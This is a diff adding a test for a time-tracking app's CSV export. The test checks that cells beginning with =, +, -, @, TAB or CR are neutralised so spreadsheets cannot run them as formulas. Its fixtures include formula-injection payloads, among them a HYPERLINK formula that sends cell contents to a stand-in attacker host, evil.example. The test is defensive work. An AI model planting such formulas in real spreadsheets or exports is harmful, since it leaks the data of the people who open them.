@@ -199,4 +199,30 @@ describe('CSV export', () => {
     // UTF-8 round trip: the BOM is the three bytes EF BB BF.
     expect([...Buffer.from(csv.content, 'utf8').subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
   });
+
+  it('neutralises cells a spreadsheet would run as formulas (= + - @ TAB CR in front get a quote), numbers stay numbers', async () => {
+    const { client, employee } = await userWithRole(app, 'Employee');
+    // Every text column a user can fill: employee name, project number and title, customer, note.
+    await admin.core.employees.update.mutate({ id: employee.id, firstName: '@SUM(A1)', lastName: '=Nachname' });
+    const customer = await admin.crm.customers.create.mutate({ name: unique('+Kunde') });
+    const project = await manager.projects.create.mutate({ title: unique('-Projekt'), customerId: customer.id, hourlyRate: '80' });
+    const notes = ['=HYPERLINK("https://evil.example/?"&A1;"Klick")', '+1+1', '-2+3', '@cmd', '\t=1+1', '\r=1+1'];
+    for (const [i, note] of notes.entries()) {
+      const day = String(10 + i).padStart(2, '0');
+      await client.timeTracking.entries.create.mutate({ projectId: project.id, startTime: `2026-03-${day}T08:00:00+01:00`, endTime: `2026-03-${day}T09:00:00+01:00`, note });
+    }
+    const csv = await client.timeTracking.exportCsv.query({ employeeId: employee.id, from: '2026-03-01', to: '2026-03-31' });
+    expect(csv.rowCount).toBe(notes.length);
+    const body = csv.content.slice(1);
+    const neutral = (text: string) => `"'${text.replace(/"/g, '""')}"`;
+    // Notes are trimmed when stored, so TAB and CR in front are gone by then (csv.test.ts covers them).
+    for (const note of notes) expect(body).toContain(`;${neutral(note.trim())};ja;80,00;80,00;`);
+    expect(body).toContain(`;${neutral('=Nachname, @SUM(A1)')};`);
+    expect(body).toContain(`;${neutral(project.title)};${neutral(customer.name)};`);
+    // No cell of the export starts like a formula unless it is a quoted, neutralised one.
+    const cells = body.split(/;|\r\n/);
+    expect(cells.filter((c) => /^[=+\-@]/.test(c))).toEqual([]);
+    // The numbers are numbers: hours, rate and amount without a quote.
+    expect(body).toContain(';1,00;1,00;');
+  });
 });
